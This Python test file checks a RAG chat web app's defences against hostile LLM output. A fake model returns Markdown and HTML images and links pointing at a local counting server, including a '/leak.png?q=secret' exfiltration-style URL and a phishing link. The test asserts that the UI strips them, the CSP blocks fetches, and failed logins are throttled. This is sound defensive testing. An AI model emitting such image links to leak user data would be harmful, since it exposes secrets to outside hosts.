"""Hostile LLM output in a real Chromium: an answer full of Markdown images and links to a local HTTP
server that counts requests. Nothing may arrive, while streaming or after; the CSP header is served;
the login route of an app behind HELUO_AUTH slows down after a failed attempt."""

from __future__ import annotations

import itertools
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage

from test_ui_browser import CHROMIUM, CHROMIUM_FLAGS, SHOTS, free_port

pytestmark = [pytest.mark.slow, pytest.mark.browser]

PIXEL = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000" "1f15c4890000000d49444154789c6300010000050001" "0d0a2db40000000049454e44ae426082")


class Counter(BaseHTTPRequestHandler):
    paths: list[str] = []

    def do_GET(self):  # noqa: N802 - the http.server hook
        Counter.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()
        self.wfile.write(PIXEL)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def counter():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Counter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def hostile_reply(base: str) -> str:
    """True sentences (so the LLM's answer is kept) and every way Markdown and HTML can fetch or link,
    in heading lines (not claims, so they survive verification) and a link definition."""
    return (
        f"### 概况 ![t]({base}/leak.png?q=secret) ![]({base}/leak2.png)\n"
        "全市地区生产总值达到5128.4亿元[1]。同比增长3%[1]。高于全省1.7个百分点[1]。\n"
        f"### 详见[官网]({base}/phish)、<{base}/auto>、{base}/bare、[![i]({base}/nested.png)]({base}/nested)"
        f" 和 <img src=\"{base}/html.png\"> [ref][1]\n\n[1]: {base}/definition.png\n"
    )


@pytest.fixture(scope="module")
def site(indexed_settings, counter):
    if not CHROMIUM:
        pytest.skip("Chromium is not installed: apt-get install -y chromium chromium-driver")
    pytest.importorskip("playwright.sync_api", reason="the Playwright Python package is not installed")
    from rag.service import Assistant
    from ui.web import build_app, serve

    model = GenericFakeChatModel(messages=itertools.repeat(AIMessage(content=hostile_reply(counter))))
    settings = indexed_settings.model_copy(update={"openai_base_url": "http://127.0.0.1:9/v1", "openai_model": "fake", "llm": "openai"})
    app = build_app(Assistant(settings, chat_models={"openai": model}), settings)
    _, url, _ = serve(app, settings, port=free_port(), block=False)
    yield url
    app.close()


@pytest.fixture(scope="module")
def browser(site):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield chromium
        chromium.close()


def test_a_hostile_answer_fetches_nothing_and_links_only_to_its_sources(site, browser, counter):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    blocked = []
    page.on("console", lambda message: "Content Security Policy" in message.text and blocked.append(message.text))
    response = page.goto(site, wait_until="load")
    policy = response.headers.get("content-security-policy", "")
    assert "img-src 'self' data: blob:" in policy and "default-src 'self'" in policy
    page.locator("#heluo-question textarea").fill("2020年洛阳市地区生产总值是多少？")
    page.locator("#heluo-send").click()
    reply = page.locator("#heluo-chat .message-content").last
    reply.locator(".heluo-status").wait_for(timeout=60_000)
    assert "5128.4" in reply.inner_text() and "OpenAI" in reply.inner_text()  # the LLM's answer was kept
    assert "图片已屏蔽" in reply.inner_text() and "链接已移除" in reply.inner_text()
    hrefs = reply.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert hrefs and all(href.startswith("#cite-") for href in hrefs), hrefs
    assert reply.locator("img").count() == 0
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / "ui_hostile_answer.png"), full_page=True)
    # Whatever still slipped into the page would be stopped by the CSP: try it.
    page.evaluate(f"() => {{ const i = new Image(); i.src = '{counter}/injected.png'; document.body.append(i); }}")
    time.sleep(1.0)
    assert Counter.paths == []
    assert any("img-src" in text for text in blocked)
    page.close()

    canary = browser.new_page()  # the counter does see a browser's fetch when nothing stops it
    canary.set_content(f'<img src="{counter}/canary.png">')
    canary.wait_for_function("() => document.images[0].complete")
    canary.close()
    assert Counter.paths == ["/canary.png"]


def test_failed_logins_slow_the_next_attempt(indexed_settings):
    import httpx

    from rag.service import Assistant
    from ui.web import build_app, serve

    settings = indexed_settings.model_copy(update={"auth": "admin:s3cret"})
    app = build_app(Assistant(settings), settings)
    _, url, _ = serve(app, settings, port=free_port(), block=False)
    try:
        with httpx.Client(base_url=url, timeout=30) as http:
            assert "content-security-policy" in http.get("/").headers
            wrong = {"username": "admin", "password": "guess"}
            assert http.post("/login", data=wrong).status_code == 400
            started = time.monotonic()
            assert http.post("/login", data=wrong).status_code == 400
            assert time.monotonic() - started >= 0.9  # waited the 1 s the first failure earned
            started = time.monotonic()
            assert http.post("/login", data={"username": "admin", "password": "s3cret"}).status_code == 200
            assert time.monotonic() - started >= 1.8  # and 2 s after the second
    finally:
        app.close()
